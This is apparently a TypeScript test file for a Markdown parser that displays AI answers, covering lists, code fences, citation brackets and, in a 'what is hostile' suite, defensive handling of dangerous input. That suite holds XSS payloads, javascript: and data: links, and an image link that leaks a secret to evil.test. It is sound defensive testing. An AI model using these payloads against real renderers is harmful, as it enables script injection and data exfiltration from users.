import { describe, expect, test } from 'vitest';
import { blocksOf, closedUp, type Inline, inlinesOf, outlineOf } from './parse.ts';

const words = (runs: readonly Inline[]): string =>
  runs.map((run) => ('children' in run ? words(run.children) : run.kind === 'source' ? `[${run.numbers}]` : run.text)).join('');

describe('what models write', () => {
  test('headings, lists, fences, quotes, tables and rules', () => {
    const text =
      '## Avant\n1. Mesurer\n2. Noter\n   la valeur\n\n- a\n  - b\n\n```\nx < 1\n```\n> prudence\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---\nfin';
    expect(blocksOf(text).map(({ kind }) => kind)).toEqual(['heading', 'list', 'code', 'quote', 'table', 'rule', 'paragraph']);
    expect(blocksOf('1. a\n2. b\n\n3. c')).toMatchObject([{ kind: 'list', isOrdered: true, items: [{ text: 'a' }, { text: 'b' }, { text: 'c' }] }]);
  });
  test('dashes within a numbered list are not counted', () => {
    const [list] = blocksOf('1. Mesurez :\n   - pôle plus\n   - pôle moins\n2. Comparez');
    const outline = list?.kind === 'list' ? outlineOf(list.items) : [];
    expect(outline.map(({ item, inner }) => [item.number, inner.map(({ text, number }) => [text, number])])).toEqual([
      [
        1,
        [
          ['pôle plus', null],
          ['pôle moins', null],
        ],
      ],
      [2, []],
    ]);
  });
  test('an answer cut anywhere is whole: an open fence reaches to the end', () => {
    expect(blocksOf('Voir :\n```\nRiso = 0,4')).toEqual([
      { kind: 'paragraph', text: 'Voir :' },
      { kind: 'code', text: 'Riso = 0,4' },
    ]);
  });
  test('sources are numbers in brackets, readings are not', () => {
    expect(inlinesOf('Voir [1], [2, 3], 【4†x】 et [Source 5].').filter(({ kind }) => kind === 'source')).toEqual([
      { kind: 'source', numbers: [1] },
      { kind: 'source', numbers: [2, 3] },
      { kind: 'source', numbers: [4] },
      { kind: 'source', numbers: [5] },
    ]);
    expect(inlinesOf('entre [0,5 A] et 12').every(({ kind }) => kind === 'text')).toBe(true);
  });
  test('a number that names no source leaves no gap', () => {
    const runs = closedUp(inlinesOf('À froid [7]. Puis [1].'), (number) => number === 1);
    expect(words(runs)).toBe('À froid[7]. Puis [1].');
  });
  test('stars and underscores inside names stay', () => {
    expect(words(inlinesOf('OND_03_A et 2*3*4 puis **fort _dedans_**'))).toBe('OND_03_A et 234 puis fort dedans');
  });
});

describe('what is hostile', () => {
  test('HTML is the text it is', () => {
    const text = '<img src=x onerror=alert(1)><script>alert(1)</script>';
    expect(blocksOf(text)).toEqual([{ kind: 'paragraph', text }]);
    expect(inlinesOf(text)).toEqual([{ kind: 'text', text }]);
  });
  test('a picture is its description: nothing is fetched', () => {
    expect(inlinesOf('![la fuite](https://evil.test/?q=secret)')).toEqual([{ kind: 'text', text: 'la fuite' }]);
  });
  test.each(['javascript:alert(1)', 'data:text/html,x', 'http://x.test', '//x.test', 'https://user:pass@x.test', '/office'])(
    'a link to %s is only its words',
    (address) => expect(inlinesOf(`[ici](${address})`)).toEqual([{ kind: 'text', text: 'ici' }]),
  );
  test('a link says where it leads', () => {
    expect(inlinesOf('[la notice de solar.test](https://evil.test/x)')).toEqual([
      { kind: 'link', text: 'la notice de solar.test', href: 'https://evil.test/x', host: 'evil.test' },
    ]);
  });
  test('nothing makes it fail, and no link but https leaves it', () => {
    const bits = ['*', '_', '`', '[a]', '(https://x.test)', '(javascript:x)', '!', '\n', '|--|', '- ', '> ', '```', '<b>', ' a'];
    const texts = bits.flatMap((a) => bits.flatMap((b) => bits.flatMap((c) => bits.map((d) => a + b + c + d))));
    const runs = texts.flatMap(blocksOf).flatMap((block) => ('text' in block ? inlinesOf(block.text) : []));
    expect(runs.some(({ kind }) => kind === 'link')).toBe(true);
    expect(runs.filter((run) => run.kind === 'link' && !run.href.startsWith('https://'))).toEqual([]);
  });
});
